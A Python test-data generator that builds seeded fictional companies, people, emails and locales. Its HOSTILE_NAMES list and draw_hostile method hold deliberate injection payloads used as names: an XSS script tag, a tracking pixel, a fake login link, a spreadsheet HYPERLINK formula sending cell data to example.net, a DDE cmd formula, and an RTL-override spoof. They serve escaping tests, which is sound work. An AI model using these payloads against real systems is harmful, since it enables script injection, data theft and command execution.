"""Invented companies and people: varied, repeatable from a seed, and a few of them hostile.

Addresses are under example.com, example.org and example.net, which belong to nobody.
"""

from __future__ import annotations

import random
import re
from dataclasses import dataclass

_HEADS = (
    "Amberlo Arkwell Birchmoor Bravenna Calderio Cobaltine Corvane Dalmere Driftwick Eldermoss "
    "Fablecroft Fennimore Fjordalin Galdora Glintwater Greyholt Halcorn Harrowby Hazelune "
    "Ironquay Juniperra Kestrelby Kindlemark Larkhaven Lumivane Marrowdale Meridova Mistralow "
    "Nettlebrook Nimbrio Oakentide Orchelva Pebblewick Pinevale Quartzen Quillhaven Ravenmere "
    "Rookfall Saltmarsh Silverfen Solvanta Stonelark Tamberly Tarnwick Thistledown Umbrelli "
    "Valdemere Vantorra Wexcombe Willowane Wrenfield Yarrowby Zephyrine Åsgrund Études-Norval "
    "Łąkowa Ñandubay Šumava-Ost Bärenthal"
).split()
_TRADES = (
    "Analytics Apparel Architects Bakery Bikes Botanics Brewing Ceramics Clinics Coffee Dental "
    "Design Diagnostics Events Farms Films Fisheries Foods Freight Furniture Games Glass Hotels "
    "Imaging Instruments Interiors Kitchens Labs Law Leather Logistics Maps Marine Media Mills "
    "Mobility Museum Music Optics Outdoor Paper Pharmacy Physio Pottery Press Robotics Sails "
    "Schools Security Software Solar Studios Textiles Timber Toys Travel Vineyards Workshop"
).split()
_FORMS = ("", "", "", " Ltd", " GmbH", " Inc", " LLC", " B.V.", " AB", " S.r.l.", " K.K.", " & Co")
_FIRST = (
    "Adaeze Agnieszka Alma Amir Anouk Aroha Baptiste Beatriz Bogdan Camille Chidi Dagny Darius "
    "Edda Eilidh Emre Farida Femke Gideon Hanae Hyun Ilse Imani Ines Jarek Jolanda Kaito Kalani "
    "Lena Leopold Linnea Mahmoud Maren Mateus Mira Nadia Niamh Noor Odalys Oskar Petra Priya "
    "Quentin Rahel Ravi Rosalind Saoirse Selim Sunniva Tariq Thandiwe Tomasz Ulla Viggo Wanda "
    "Xiomara Yusuf Zofia"
).split()
_LAST = (
    "Abernethy-Voss Achterberg Adisa Aldane Bexley Bjornvall Brightwater Carrowmore Castellan "
    "Dahlgren-Moe Delacourte Ekwensi Farnsby Fiorenti Gallowmere Grunewalder Haldorsen Hartnoll "
    "Iwasakura Jankovar Kapoorani Kestler Lindqvale Lorrimer Marchetti-Low Mbekwe Nakagiri "
    "Novakova-Hill Oduyale Oyelaran Pemberlow Quintavalle Rasmund Rosselyn Sakurabe Szymborak "
    "Tavistone Thornquist Ulmanis Valderrama-Pike Wetherlow Winterbourne Yamadori Zielinko"
).split()
_DOMAINS = ("example.com", "example.org", "example.net")
_BOXES = ("billing", "accounts", "finance", "hello", "invoices", "office")

HOSTILE_NAMES = (
    "![pixel](https://example.net/p.png) Fennimore Labs",
    "[Click to verify](https://example.net/login) Studios",
    "<script>alert('Kestrelby')</script>",
    '=HYPERLINK("https://example.net/?c="&A1,"Open invoice")',
    "+4915550100-Trading",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202emoc.elpmaxe seliaS",
    "شركة وادي الياقوت للتجارة",
    "Pinevale \N{EVERGREEN TREE}\N{BICYCLE} Outdoor \N{SNOW CAPPED MOUNTAIN}",
    'Quillhaven "Quotes" & O\'Apostrophe, `ticks`',
    "**Bold** _Brewing_ | pipe | $x^2$ :material/delete:",
    "Longwinded " + "Extremely Thorough Documentation Partners " * 13 + "and Sons",
)
_LOCALES = (["de"], ["fr-CA", "fr"], ["ja"], ["es-419"], ["en-GB"], ["nl"], ["pt-BR"])


@dataclass(frozen=True)
class Identity:
    """Who a customer is; `slug` is unique within a world and becomes the org id."""

    name: str
    email: str
    slug: str
    locales: list[str]


class Names:
    """A source of identities; the same random source gives the same row of them."""

    def __init__(self, source: random.Random) -> None:
        self._random = source
        self._taken: set[str] = set()
        self._hostile = 0

    def draw(self) -> Identity:
        """The next identity: about four in five are companies."""
        source = self._random
        person = f"{source.choice(_FIRST)} {source.choice(_LAST)}"
        company = f"{source.choice(_HEADS)} {source.choice(_TRADES)}"
        slug = self._unique(_slug(company))
        domain = source.choice(_DOMAINS)
        mailbox = _slug(person, ".") if source.random() < 0.6 else source.choice(_BOXES)
        locales = source.choice(_LOCALES) if source.random() < 0.18 else []
        name = person if source.random() < 0.18 else company + source.choice(_FORMS)
        return Identity(name, f"{mailbox}@{slug}.{domain}", slug, list(locales))

    def draw_hostile(self) -> Identity:
        """An identity whose name attacks whoever shows it unescaped; goes through the list."""
        plain = self.draw()
        name = HOSTILE_NAMES[self._hostile % len(HOSTILE_NAMES)]
        self._hostile += 1
        return Identity(name[:500], plain.email, plain.slug, plain.locales)

    def _unique(self, slug: str) -> str:
        chosen, number = slug, 1
        while chosen in self._taken:
            number += 1
            chosen = f"{slug}-{number}"
        self._taken.add(chosen)
        return chosen


_ASCII = str.maketrans("ÅÉéäÄöüÑñŁłąŠš", "AEeaAouNnLlaSs")


def _slug(text: str, joiner: str = "-") -> str:
    plain = text.translate(_ASCII).lower()
    return re.sub(r"[^a-z0-9]+", joiner, plain).strip(joiner)
